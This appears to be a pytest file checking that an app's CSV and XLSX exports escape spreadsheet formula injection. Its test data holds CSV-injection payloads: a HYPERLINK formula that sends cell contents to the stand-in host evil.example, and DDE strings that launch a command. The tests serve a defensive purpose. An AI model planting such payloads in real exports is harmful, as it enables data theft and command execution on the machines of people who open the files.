"""Exports never carry a live formula (OWASP CSV injection): a name, title or SKU that begins
with =, +, -, @, a tab or a carriage return is written as text with a leading quote, in the
CSV and XLSX exports alike, and read back as such."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from station.metrics.compute import Throughput
from station.metrics.export import write_csv, write_xlsx
from station.metrics.report import TableKind, table
from station.metrics.settings import Targets
from station.returns.export import FIXED_COLUMNS, to_csv
from station.spreadsheet import FORMULA_STARTS, safe_cell

ATTACKS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


def _is_live(text: str) -> bool:
    return text.startswith(FORMULA_STARTS) and safe_cell(text) != text


def _throughput_table():
    packers = tuple(Throughput(f"P-{index}", orders=1, units=2, active_seconds=600.0)
                    for index, _ in enumerate(ATTACKS))
    names = {f"P-{index}": attack for index, attack in enumerate(ATTACKS)}
    return table(TableKind.PACKERS, packers, Targets(), names.get)


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_that_would_start_a_formula_gets_a_leading_quote(attack):
    assert safe_cell(attack) == "'" + attack


@pytest.mark.parametrize("value", ["-12", "+3.5", "12", "Alex Kim", "佐藤 花子", "", None, -4,
                                   2.5])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert safe_cell(value) == value


def test_no_xlsx_cell_is_a_formula_after_a_round_trip(tmp_path):
    path = tmp_path / "throughput.xlsx"
    write_xlsx(path, [("Packers", _throughput_table())])
    sheet = load_workbook(path)["Packers"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    names = [row[0].value for row in sheet.iter_rows(min_row=2)]
    # XML keeps a carriage return as a line feed; the quote in front is what matters.
    assert names == ["'" + attack.replace("\r", "\n") for attack in ATTACKS]
    assert [row[1].value for row in sheet.iter_rows(min_row=2)] == [1] * len(ATTACKS)


def test_no_throughput_csv_cell_starts_a_formula(tmp_path):
    path = tmp_path / "throughput.csv"
    write_csv(path, _throughput_table())
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert [row[0] for row in rows[1:]] == ["'" + attack for attack in ATTACKS]
    assert not [cell for row in rows for cell in row if _is_live(cell)]


def test_no_listings_csv_cell_starts_a_formula():
    rows = [dict.fromkeys(FIXED_COLUMNS, attack) | {"price_yen": "-500"}
            for attack in ATTACKS]
    text = to_csv(rows, ["mercari"])
    read = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["title"] for row in read] == ["'" + attack for attack in ATTACKS]
    assert [row["price_yen"] for row in read] == ["-500"] * len(ATTACKS)
    assert not [cell for row in read for cell in row.values() if _is_live(cell)]
